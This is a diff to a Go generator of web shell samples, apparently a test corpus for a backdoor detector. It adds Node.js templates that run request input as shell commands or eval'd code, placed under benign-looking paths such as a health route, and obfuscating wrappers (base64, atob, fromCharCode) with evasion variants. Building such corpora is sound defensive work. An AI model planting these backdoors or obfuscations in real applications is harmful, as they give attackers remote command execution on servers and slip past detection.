@@ -34,7 +34,7 @@ type opts struct {
 // encodings can wrap it.
 type seed struct {
 	name   string
-	lang   string // php, jsp, aspx, jscript, asp, perl, python, ruby
+	lang   string // php, jsp, aspx, jscript, asp, perl, python, ruby, node
 	path   string
 	render func(o opts) string
 }
@@ -228,6 +228,67 @@ var seeds = []seed{
 			call = "send(" + cat(o, "system", " + ", "'") + ", " + o.v + ")"
 		}
 		return "require 'cgi'\ncgi = CGI.new\n" + get + "\n" + cm(o, "hash") + "puts cgi.header\n" + call + "\n"
+	}},
+	// Node.js: an express route, a bare http server, a serverless handler and an ES module
+	{name: "node-express-exec", lang: "node", path: "/srv/app/routes/health.js", render: func(o opts) string {
+		get := "const " + o.v + " = req.query.cmd;"
+		if o.array {
+			get = "const " + o.w + " = [req.query.cmd];" + nl(o) + "const " + o.v + " = " + o.w + "[0];"
+		}
+		call := "cp.exec(" + o.v + ", (e, out) => res.send(out));"
+		switch {
+		case o.callback:
+			call = "cp.exec.call(null, " + o.v + ", (e, out) => res.send(out));"
+		case o.concat:
+			call = "cp[" + cat(o, "exec", " + ", "'") + "](" + o.v + ", (e, out) => res.send(out));"
+		}
+		return "const express = require('express');\nconst cp = require(" + cat(o, "child_process", " + ", "'") + ");\nconst router = express.Router();\n" +
+			"router.get('/health', (req, res) => {" + nl(o) + cm(o, "c") + get + nl(o) + call + nl(o) + "});\nmodule.exports = router;\n"
+	}},
+	{name: "node-http-eval", lang: "node", path: "/opt/app/server.js", render: func(o opts) string {
+		collect := "let " + o.v + " = '';" + nl(o) + "rq.on('data', (chunk) => { " + o.v + " += chunk; });"
+		if o.array {
+			collect = "const " + o.w + " = [];" + nl(o) + "rq.on('data', (chunk) => " + o.w + ".push(chunk));" + nl(o) + "let " + o.v + " = '';" +
+				nl(o) + "rq.on('end', () => { " + o.v + " = " + o.w + ".join(''); });"
+		}
+		call := "rs.end(String(eval(" + o.v + ")));"
+		switch {
+		case o.callback:
+			call = "[" + o.v + "].forEach(eval); rs.end('ok');"
+		case o.concat:
+			call = "rs.end(String(globalThis[" + cat(o, "eval", " + ", "'") + "](" + o.v + ")));"
+		}
+		return "const http = require('http');\nhttp.createServer(function (rq, rs) {" + nl(o) + cm(o, "c") + collect + nl(o) +
+			"rq.on('end', () => {" + nl(o) + call + nl(o) + "});\n}).listen(8181);\n"
+	}},
+	{name: "node-lambda-spawn", lang: "node", path: "/var/task/index.js", render: func(o opts) string {
+		get := "const " + o.v + " = event.queryStringParameters.c;"
+		if o.array {
+			get = "const " + o.w + " = { c: event.queryStringParameters.c };" + nl(o) + "const " + o.v + " = " + o.w + ".c;"
+		}
+		call := "const out = spawnSync('/bin/sh', ['-c', " + o.v + "]);"
+		switch {
+		case o.callback:
+			call = "const out = Reflect.apply(spawnSync, null, ['/bin/sh', ['-c', " + o.v + "]]);"
+		case o.concat:
+			call = "const out = require(" + cat(o, "child_process", " + ", "'") + ")[" + cat(o, "spawnSync", " + ", "'") + "]('/bin/sh', ['-c', " + o.v + "]);"
+		}
+		return "const { spawnSync } = require('child_process');\nexports.handler = async (event) => {" + nl(o) + cm(o, "c") + get + nl(o) + call + nl(o) +
+			"return { statusCode: 200, body: String(out.stdout) };\n};\n"
+	}},
+	{name: "node-esm-vm", lang: "node", path: "/app/src/debug.mjs", render: func(o opts) string {
+		get := "const " + o.v + " = req.body.code;"
+		if o.array {
+			get = "const " + o.w + " = new Map([['c', req.body.code]]);" + nl(o) + "const " + o.v + " = " + o.w + ".get('c');"
+		}
+		call := "res.end(String(vm.runInNewContext(" + o.v + ", { process })));"
+		switch {
+		case o.callback:
+			call = "res.end(String(vm.runInNewContext.call(vm, " + o.v + ", { process })));"
+		case o.concat:
+			call = "res.end(String(vm[" + cat(o, "runInNewContext", " + ", "'") + "](" + o.v + ", { process })));"
+		}
+		return "import vm from 'node:vm';\nexport default function debug(req, res) {" + nl(o) + cm(o, "c") + get + nl(o) + call + nl(o) + "}\n"
 	}},
 	// a function name computed by string functions on constants
 	{name: "php-computed-name", lang: "php", path: "/var/www/html/lib/cache.php", render: func(o opts) string {
@@ -487,6 +548,18 @@ var encodings = []encoding{
 	{"base64", "python", func(c string) string { return "import base64\nexec(base64.b64decode('" + b64(c) + "'))\n" }, []string{"base64"}},
 	{"base64", "perl", func(c string) string { return "use MIME::Base64;\neval(decode_base64('" + b64(c) + "'));\n" }, []string{"base64"}},
 	{"base64", "ruby", func(c string) string { return "require 'base64'\neval(Base64.decode64('" + b64(c) + "'))\n" }, []string{"base64"}},
+	{"base64", "node", func(c string) string { return "eval(Buffer.from('" + b64(c) + "', 'base64').toString());\n" }, []string{"base64"}},
+	{"atob", "node", func(c string) string { return "new Function(atob('" + b64(c) + "'))();\n" }, []string{"base64"}},
+	{"fromCharCode", "node", func(c string) string { return "eval(String.fromCharCode(" + charCodes(c) + "));\n" }, []string{"chr"}},
+}
+
+// charCodes is s as a list of character codes.
+func charCodes(s string) string {
+	var parts []string
+	for _, c := range []byte(s) {
+		parts = append(parts, fmt.Sprint(c))
+	}
+	return strings.Join(parts, ",")
 }
 
 func encodingsFor(lang string) []encoding {
@@ -568,7 +641,7 @@ func variants() []variant {
 			o.mixCase = true
 			add(s, "case", o, nil, "", "")
 		}
-		if s.lang == "php" || s.lang == "python" || s.lang == "ruby" {
+		if s.lang == "php" || s.lang == "python" || s.lang == "ruby" || s.lang == "node" {
 			o = randomOpts(r)
 			o.callback = true
 			add(s, "callbacks", o, nil, "", "")
